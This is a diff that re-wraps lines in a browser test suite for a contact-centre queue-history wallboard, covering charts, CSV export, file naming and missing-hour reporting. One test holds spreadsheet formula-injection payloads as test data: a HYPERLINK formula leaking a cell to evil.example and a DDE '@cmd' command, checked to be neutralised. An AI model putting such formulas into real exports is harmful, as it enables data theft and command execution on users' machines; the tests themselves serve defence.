@@ -61,7 +61,10 @@ test('the history view charts a simulated week', async () => {
   const week = await api({ range: 'last7', by: 'hour' });
   const hour = await chartData('chart-hour');
   assert.equal(hour.labels.length, week.series.length);
-  assert.deepEqual(hour.datasets[0].data, week.series.map((r) => r.entered));
+  assert.deepEqual(
+    hour.datasets[0].data,
+    week.series.map((r) => r.entered),
+  );
   assert.ok(week.totals.entered > 1000, `a week of traffic: ${week.totals.entered}`);
   for (const id of ['chart-date', 'chart-hourOfDay', 'chart-dayOfWeek', 'chart-queue', 'chart-sla']) {
     const c = await chartData(id);
@@ -92,7 +95,10 @@ test('the range selector changes the charts, down to the hour', async () => {
   const hour = await chartData('chart-hour');
   const expected = await api({ from: `${y}T09:00`, to: `${y}T12:00`, by: 'hour' });
   assert.equal(hour.labels.length, 3);
-  assert.deepEqual(hour.datasets[0].data, expected.series.map((r) => r.entered));
+  assert.deepEqual(
+    hour.datasets[0].data,
+    expected.series.map((r) => r.entered),
+  );
   assert.match(page.url(), /range=custom/);
 });
 
@@ -123,7 +129,10 @@ test('CSV export matches the series on screen, rounded, with a totals row and a 
   const names = [a.friendlyName, b.friendlyName].join('+');
   assert.equal(download.suggestedFilename(), `queue-history_${day(6)}_to_${day(0)}_all_${names}.csv`);
   // Rounded once by the history crate: no figure with more than 4 decimals (no 17.666666666666668).
-  const long = lines.slice(1).flatMap((l) => l.split(',')).filter((v) => /^-?\d+\.\d{5,}$/.test(v));
+  const long = lines
+    .slice(1)
+    .flatMap((l) => l.split(','))
+    .filter((v) => /^-?\d+\.\d{5,}$/.test(v));
   assert.deepEqual(long, []);
   // The last row is the range's totals, exactly as GET /queue-history weighs them.
   const totals = (await api({ range: 'last7', by: 'hour', queue: `${a.sid},${b.sid}` })).totals;
@@ -136,7 +145,10 @@ test('CSV export matches the series on screen, rounded, with a totals row and a 
   assert.equal(Number(last.serviceLevel30), totals.serviceLevel['30']);
   // Counts add up over the hours; the average is weighted by accepted tasks, not a mean of the hours'.
   const hourRows = rows.filter((r) => r.by === 'hour');
-  assert.equal(hourRows.reduce((n, r) => n + Number(r.entered), 0), Number(last.entered));
+  assert.equal(
+    hourRows.reduce((n, r) => n + Number(r.entered), 0),
+    Number(last.entered),
+  );
   const weighted = hourRows.reduce((n, r) => n + (r.avgWait === '' ? 0 : Number(r.avgWait) * Number(r.accepted)), 0) / Number(last.accepted);
   assert.ok(Math.abs(weighted - Number(last.avgWait)) <= 0.1, `${weighted} vs ${last.avgWait}`);
   for (const by of ['hour', 'date', 'hourOfDay', 'dayOfWeek', 'queue']) {
@@ -154,10 +166,19 @@ test('CSV export matches the series on screen, rounded, with a totals row and a 
 
 test('the CSV file name says the range (days, or hours inside a day), the channel and the queues', () => {
   const { csvFileName } = require('../assets/wallboard/csv.js');
-  assert.equal(csvFileName({ first: '2026-11-26 00:00 -05:00', last: '2026-12-02 23:00 -05:00', channel: 'voice', queues: ['Sales', 'Support'] }), 'queue-history_2026-11-26_to_2026-12-02_voice_Sales+Support.csv');
+  assert.equal(
+    csvFileName({ first: '2026-11-26 00:00 -05:00', last: '2026-12-02 23:00 -05:00', channel: 'voice', queues: ['Sales', 'Support'] }),
+    'queue-history_2026-11-26_to_2026-12-02_voice_Sales+Support.csv',
+  );
   assert.equal(csvFileName({ first: '2026-12-02 00:00 +00:00', last: '2026-12-02 23:00 +00:00', channel: 'all', queues: 'all queues' }), 'queue-history_2026-12-02_all_all-queues.csv');
-  assert.equal(csvFileName({ first: '2026-12-02 09:00 +00:00', last: '2026-12-02 11:00 +00:00', channel: 'chat', queues: ['Sales'] }), 'queue-history_2026-12-02T0900_to_2026-12-02T1200_chat_Sales.csv');
-  assert.equal(csvFileName({ first: '2026-12-02 00:00 +00:00', last: '2026-12-02 23:00 +00:00', channel: 'all', queues: ['../Évry/x', 'a b', 'c', 'd', 'e'] }), 'queue-history_2026-12-02_all_Evry-x+a-b+c+2-more.csv');
+  assert.equal(
+    csvFileName({ first: '2026-12-02 09:00 +00:00', last: '2026-12-02 11:00 +00:00', channel: 'chat', queues: ['Sales'] }),
+    'queue-history_2026-12-02T0900_to_2026-12-02T1200_chat_Sales.csv',
+  );
+  assert.equal(
+    csvFileName({ first: '2026-12-02 00:00 +00:00', last: '2026-12-02 23:00 +00:00', channel: 'all', queues: ['../Évry/x', 'a b', 'c', 'd', 'e'] }),
+    'queue-history_2026-12-02_all_Evry-x+a-b+c+2-more.csv',
+  );
 });
 
 test('the CSV cell rule neutralises formulas (OWASP) and quotes per RFC 4180', () => {
@@ -193,7 +214,13 @@ test('the CSV export writes a formula-like queue name as text, not a live formul
   assert.ok(queueRows >= 1);
   const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
   const text = fs.readFileSync(await download.path(), 'utf8');
-  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`), text.split('\n').filter((l) => l.startsWith('queue,')).join('\n'));
+  assert.ok(
+    text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`),
+    text
+      .split('\n')
+      .filter((l) => l.startsWith('queue,'))
+      .join('\n'),
+  );
   assert.ok(text.includes(`"'@cmd|"" /C calc""!A0"`));
   // No cell of the file starts with a formula character (cells split by an RFC 4180 reader).
   const cells = [];
@@ -228,10 +255,16 @@ test('hours without figures are shown as missing, with why, and as gaps in the h
     await page.click('#apply');
   });
   const answer = await api({ from: `${day}T09:00`, to: `${day}T12:00`, by: 'hour' });
-  assert.deepEqual(answer.missing.map((m) => m.code), ['expired', 'expired', 'expired']);
+  assert.deepEqual(
+    answer.missing.map((m) => m.code),
+    ['expired', 'expired', 'expired'],
+  );
   assert.equal(await page.isVisible('#missing'), true);
   assert.equal(await page.textContent('#missing summary'), '3 hours without figures: 3 older than TaskRouter keeps');
-  assert.deepEqual(await page.$$eval('#missing li', (lis) => lis.map((li) => li.textContent)), answer.missing.map((m) => `${m.hour}: ${m.reason}`));
+  assert.deepEqual(
+    await page.$$eval('#missing li', (lis) => lis.map((li) => li.textContent)),
+    answer.missing.map((m) => `${m.hour}: ${m.reason}`),
+  );
   const hour = await chartData('chart-hour');
   assert.deepEqual(hour.datasets[0].data, [null, null, null]);
   assert.equal(hour.datasets[2].label, 'No figures (missing)');
